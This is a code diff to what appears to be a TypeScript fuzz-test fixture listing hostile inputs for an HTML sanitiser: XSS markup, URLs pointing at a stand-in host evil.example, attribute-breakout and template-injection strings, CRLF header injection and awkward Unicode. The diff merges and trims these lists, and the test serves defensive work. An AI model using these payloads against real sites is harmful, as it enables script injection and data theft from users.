@@ -13,18 +13,15 @@ const MARKUP = [
   '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
   '<object data="https://evil.example/"></object>',
   '<style>@import "https://evil.example/";</style>',
+  '<div style="background:url(https://evil.example/)">x</div>',
   '<base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<meta charset="utf-8"><meta http-equiv="content-security-policy" content="">',
   '<form action="https://evil.example/"><button formaction="https://evil.example/">x</button>',
   '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
   '<picture><source srcset="https://evil.example/x.png"><img src="/x.png"></picture>',
-  '<video poster="https://evil.example/x.png"></video>',
-  '<div style="background:url(https://evil.example/)">x</div>',
   '<astro-island component-url="data:text/javascript,hostile()" client="load"></astro-island>',
   '&lt;script&gt;hostile()&lt;/script&gt;',
   '<scr\0ipt>hostile()</script>',
-  '<noscript><p title="</noscript><script>hostile()</script>">',
 ];
 
 const URLS = [
@@ -34,7 +31,6 @@ const URLS = [
   'data:text/html,<script>hostile()</script>',
   '//pictures.example/x.png',
   '/\t/evil.example/x.png',
-  'https://a;form-action/f',
   'https://a%3Bb/x.png',
   'https://müller.example/x.png',
   'https://pictures.example/x.png"onerror="hostile()',
@@ -45,9 +41,7 @@ const URLS = [
 
 const TEXTS = [
   '"\'`<',
-  '$&$`$1',
-  `\${hostile()}`,
-  `{{constructor.constructor('hostile()')()}}`,
+  `$&$\`$1\${hostile()}{{constructor.constructor('hostile()')()}}`,
   '__proto__',
   `' autofocus onfocus=hostile() x='`,
   `"};hostile();//`,
@@ -55,10 +49,7 @@ const TEXTS = [
   '<?xml-stylesheet href="#"?>',
   '\ufeff＜script＞hostile()＜/script＞',
   '\r\nSet-Cookie: a=b',
-];
-
-/** Letters and marks that programs treat badly. */
-const AWKWARD = [
+  // Letters and marks that programs treat badly.
   '\u0000\u0007\u001b[31m\r\n\t\v\f\u2028\ufeff\u00a0',
   '\u202eright to left\u202c مرحبا',
   '👩‍👩‍👧‍👦🇲🇹👍🏽',
@@ -68,7 +59,7 @@ const AWKWARD = [
 ];
 
 /** Texts that try to run code, to send something, to mislead or to break. `hostile` must never be called. */
-export const PAYLOADS: readonly string[] = [...MARKUP, ...URLS, ...TEXTS, ...AWKWARD];
+export const PAYLOADS: readonly string[] = [...MARKUP, ...URLS, ...TEXTS];
 
 const piece = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 100 }),
